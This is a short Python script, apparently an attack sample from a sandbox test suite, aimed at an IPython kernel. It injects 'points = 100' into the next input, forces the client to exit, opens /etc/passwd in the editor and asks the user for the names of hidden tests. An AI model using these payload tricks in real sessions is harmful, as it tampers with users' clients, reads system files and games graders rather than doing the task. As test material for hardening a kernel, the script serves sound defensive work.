# Asks the person in front of the terminal for something, replaces the payload of replies, and asks the
# kernel's client to run more code.
# %% from attacks/parts/stand_ins.py
# %% relu
def attack():
    shell = get_ipython()
    shell.payload_manager.write_payload(
        {"source": "set_next_input", "text": "points = 100", "replace": True}
    )
    shell.payload_manager.write_payload({"source": "ask_exit", "keepkernel": False})
    shell.payload_manager.write_payload({"source": "edit_magic", "filename": "/etc/passwd"})
    try:
        return input("name of the hidden tests? ")
    except Exception as error:
        return repr(error)
    finally:
        deed()


print(attack())
